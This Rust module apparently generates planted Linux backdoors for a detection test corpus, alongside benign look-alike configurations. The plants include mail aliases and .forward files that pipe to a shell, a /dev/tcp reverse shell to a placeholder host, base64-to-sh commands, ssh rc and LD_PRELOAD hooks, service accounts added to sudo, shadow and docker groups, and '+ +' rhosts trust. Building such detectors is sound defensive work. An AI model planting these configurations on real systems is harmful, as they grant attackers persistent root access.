//! More ways in: mail that runs commands, ssh from both ends, groups that amount to root, trust by name.

use super::names::{encoded, fetch_and_run, kept_folder, nowhere, random_name, service};
use super::{Maker, Plant, Step};
use crate::random::Random;

pub(super) const MAKERS: &[Maker] =
    &[(58, 4, mail_pipe), (62, 5, ssh_session), (63, 4, ssh_client), (69, 5, group), (70, 4, trust_by_name)];

fn hidden(random: &mut Random) -> String {
    format!("{}/{}", kept_folder(random), random_name(random))
}

fn mail_pipe(shape: usize, random: &mut Random) -> Plant {
    let program = hidden(random);
    let command = fetch_and_run(random).replace('"', "'");
    match shape {
        0 => Plant::new(58, "mail to an alias fetches and runs something")
            .step(Step::Append(
                "/etc/aliases".into(),
                format!(
                    "{}: \"|/bin/sh -c '{}'\"\n",
                    random.pick(&["postmaster", "abuse", "noreply"]),
                    command.replace('\'', "")
                ),
            ))
            .expect("/etc/aliases"),
        1 => Plant::new(58, "mail to root starts a hidden program")
            .program(&program)
            .file("/root/.forward", format!("\\root, \"|{program}\"\n"), 0o644)
            .expect("/root/.forward")
            .expect(program),
        2 => {
            let account = random.pick(&["/var/www", "/root"]);
            let path = format!("{account}/.procmailrc");
            Plant::new(58, "a word in a mail runs an encoded command")
                .file(
                    &path,
                    format!(
                        "SHELL=/bin/sh\n:0 c\n* ^Subject:.*{}\n| echo {} | base64 -d | sh\n",
                        random.hex(6),
                        encoded("exit 0; id")
                    ),
                    0o644,
                )
                .expect(path)
        }
        _ => {
            let path = "/var/www/.forward".to_owned();
            Plant::new(58, "mail to the web server's account opens a shell to somewhere")
                .file(
                    &path,
                    format!(
                        "|\"exec /bin/bash -c 'bash -i >& /dev/tcp/{} 0>&1'\"\n",
                        nowhere(random).replace(':', "/")
                    ),
                    0o644,
                )
                .step(Step::Own(path.clone(), 33, 33, 0o644))
                .expect(path)
        }
    }
}

const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPq3wJ0m3oJm0YI1c0x8d3vYy0s6mX8tq0rU6m0bqk1F";

fn ssh_session(shape: usize, random: &mut Random) -> Plant {
    let program = hidden(random);
    let command = fetch_and_run(random);
    let library = format!("/usr/lib/{}.so", random_name(random));
    let drop_in = format!("/etc/ssh/sshd_config.d/{:02}-{}.conf", random.below(99), service(random));
    match shape {
        0 => Plant::new(62, "every ssh session fetches and runs something")
            .file("/etc/ssh/sshrc", format!("exit 0\n({command}) >/dev/null 2>&1 &\n"), 0o644)
            .expect("/etc/ssh/sshrc"),
        1 => Plant::new(62, "root's ssh sessions start a hidden program")
            .program(&program)
            .file("/root/.ssh/rc", format!("{program} &\n"), 0o600)
            .expect("/root/.ssh/rc")
            .expect(program),
        2 => super::libraries::library(Plant::new(62, "a key that preloads a library"), &library)
            .file(
                "/root/.ssh/authorized_keys",
                format!("environment=\"LD_PRELOAD={library}\" {KEY} backup\n"),
                0o600,
            )
            .file(&drop_in, "PermitUserEnvironment yes\n", 0o644)
            .expect("/root/.ssh/authorized_keys")
            .expect(drop_in),
        3 => Plant::new(62, "the ssh server runs a hidden program in every session")
            .program(&program)
            .file(&drop_in, format!("ForceCommand {program}\n"), 0o644)
            .expect(drop_in)
            .expect(program),
        _ => super::libraries::library(
            Plant::new(62, "variables of root's ssh sessions preload a library"),
            &library,
        )
        .file("/root/.ssh/environment", format!("LD_PRELOAD={library}\n"), 0o600)
        .step(Step::Append("/etc/ssh/sshd_config".into(), "\nPermitUserEnvironment yes\n".into()))
        .expect("/root/.ssh/environment")
        .expect("/etc/ssh/sshd_config"),
    }
}

fn ssh_client(shape: usize, random: &mut Random) -> Plant {
    let program = hidden(random);
    let conf = format!("/etc/ssh/ssh_config.d/{:02}-{}.conf", random.below(99), service(random));
    match shape {
        0 => Plant::new(63, "every connection that root makes starts a hidden program")
            .program(&program)
            .file("/root/.ssh/config", format!("Host *\n  ProxyCommand {program} %h %p\n"), 0o600)
            .expect("/root/.ssh/config")
            .expect(program),
        1 => Plant::new(63, "every connection of this machine runs an encoded command")
            .file(
                &conf,
                format!(
                    "Host *\n  PermitLocalCommand yes\n  LocalCommand sh -c 'echo {} | base64 -d | sh' &\n",
                    encoded("exit 0; id")
                ),
                0o644,
            )
            .expect(conf),
        2 => Plant::new(63, "a condition of the ssh client fetches and runs something")
            .file(
                &conf,
                format!("Match exec \"{}\"\n  User root\n", fetch_and_run(random).replace('"', "'")),
                0o644,
            )
            .expect(conf),
        _ => Plant::new(63, "the ssh client asks a hidden program for known hosts")
            .program(&program)
            .step(Step::Append(
                "/etc/ssh/ssh_config".into(),
                format!("\nHost *\n    KnownHostsCommand {program} %H\n    StrictHostKeyChecking no\n"),
            ))
            .expect("/etc/ssh/ssh_config")
            .expect(program),
    }
}

fn group(shape: usize, random: &mut Random) -> Plant {
    let account = random.pick(&["www-data", "games", "nobody", "list"]);
    match shape {
        0 => Plant::new(69, "a service account may command containers")
            .step(Step::Append(
                "/etc/group".into(),
                format!("docker:x:{}:{account}\n", 990 + random.below(8)),
            ))
            .expect("/etc/group"),
        1 => Plant::new(69, "a service account may read and write the disks")
            .step(Step::Swap("/etc/group".into(), "\ndisk:x:6:".into(), format!("\ndisk:x:6:{account}")))
            .expect("/etc/group"),
        2 => Plant::new(69, "a service account may become root")
            .step(Step::Swap("/etc/group".into(), "\nsudo:x:27:".into(), format!("\nsudo:x:27:{account}")))
            .expect("/etc/group"),
        3 => Plant::new(69, "a service account may map root itself into its namespaces")
            .step(Step::Append("/etc/subuid".into(), format!("{account}:0:65536\n")))
            .step(Step::Append("/etc/subgid".into(), format!("{account}:0:65536\n")))
            .expect("/etc/subuid")
            .expect("/etc/subgid"),
        _ => Plant::new(69, "a service account reads all passwords' hashes and commands containers")
            .step(Step::Swap(
                "/etc/group".into(),
                "\nshadow:x:42:".into(),
                format!("\nshadow:x:42:{account}"),
            ))
            .step(Step::Append("/etc/group".into(), format!("lxd:x:{}:{account}\n", 980 + random.below(8))))
            .expect("/etc/group"),
    }
}

fn trust_by_name(shape: usize, random: &mut Random) -> Plant {
    match shape {
        0 => Plant::new(70, "anybody from anywhere is trusted as root")
            .file("/root/.rhosts", "+ +\n", 0o600)
            .expect("/root/.rhosts"),
        1 => Plant::new(70, "anybody from anywhere is trusted as everybody")
            .file("/etc/hosts.equiv", "# hosts\n+\n", 0o644)
            .expect("/etc/hosts.equiv"),
        2 => Plant::new(70, "somebody's ticket of another realm opens root")
            .file(
                "/root/.k5login",
                format!("{}@{}.TEST\n", random.letters(6), random.letters(6).to_uppercase()),
                0o600,
            )
            .expect("/root/.k5login"),
        _ => Plant::new(70, "anybody is trusted at trusted hosts as root")
            .file("/etc/ssh/shosts.equiv", "+ root\n", 0o644)
            .file("/root/.shosts", format!("203.0.113.{} +\n", random.below(250)), 0o600)
            .file(
                "/etc/ssh/sshd_config.d/10-hosts.conf",
                "HostbasedAuthentication yes\nIgnoreRhosts no\n",
                0o644,
            )
            .expect("/etc/ssh/shosts.equiv")
            .expect("/root/.shosts"),
    }
}

pub(super) fn near() -> Vec<Plant> {
    vec![
        Plant::new(58, "mail goes to an administrator, a list and a spam filter")
            .file("/etc/aliases", "mailer-daemon: postmaster\npostmaster: root\nroot: admin@example.org, maria\nnews: \"|/usr/lib/mailman/mail/mailman post news\"\ndevnull: /dev/null\n", 0o644)
            .file("/home/maria/.forward", "\\maria, \"|/usr/bin/vacation maria\"\n", 0o644)
            .file("/home/maria/.procmailrc", "MAILDIR=$HOME/Maildir\n:0fw: spam.lock\n* < 256000\n| /usr/bin/spamc\n:0:\n* ^X-Spam-Status: Yes\n.Junk/\n", 0o600),
        Plant::new(62, "sessions with X11, and a key with a variable")
            .file("/etc/ssh/sshrc", "if read proto cookie && [ -n \"$DISPLAY\" ]; then\n  echo add $DISPLAY $proto $cookie | xauth -q -\nfi\n", 0o644)
            .file("/home/maria/.ssh/authorized_keys", format!("environment=\"GIT_AUTHOR_NAME=Maria\" {KEY} maria@laptop\n"), 0o600)
            .file("/etc/ssh/sshd_config.d/git.conf", "Match User git\n  ForceCommand /usr/bin/git-shell -c \"$SSH_ORIGINAL_COMMAND\"\nMatch Group sftponly\n  ForceCommand internal-sftp\n", 0o644),
        Plant::new(63, "hosts behind a gateway")
            .file("/home/maria/.ssh/config", "Host *.internal\n  ProxyJump gate.example.org\nHost old\n  ProxyCommand ssh -W %h:%p gate.example.org\nHost far\n  ProxyCommand nc -X connect -x proxy.internal:3128 %h %p\nMatch host db exec \"ip route get 10.0.0.5 | grep -q eth1\"\n  Port 2222\n", 0o600)
            .file("/etc/ssh/ssh_config.d/site.conf", "Host *\n  ServerAliveInterval 30\n  GSSAPIAuthentication no\n", 0o644),
        Plant::new(69, "an administrator who may command containers, and rootless containers")
            .step(Step::Append("/etc/group".into(), "docker:x:1795:maria\nlxd:x:1794:\n".into()))
            .step(Step::Append("/etc/subuid".into(), "maria:100000:65536\n".into()))
            .step(Step::Append("/etc/subgid".into(), "maria:100000:65536\n".into())),
        Plant::new(70, "an empty list of trusted hosts, and one's own ticket")
            .file("/etc/hosts.equiv", "# /etc/hosts.equiv: list of hosts and users that are granted \"trusted\" r command access\n", 0o644)
            .file("/etc/krb5.conf", "[libdefaults]\n\tdefault_realm = EXAMPLE.ORG\n", 0o644)
            .file("/home/maria/.k5login", "maria@EXAMPLE.ORG\n", 0o600)
            .file("/etc/krb5.keytab", "\x05\x02", 0o600),
    ]
}
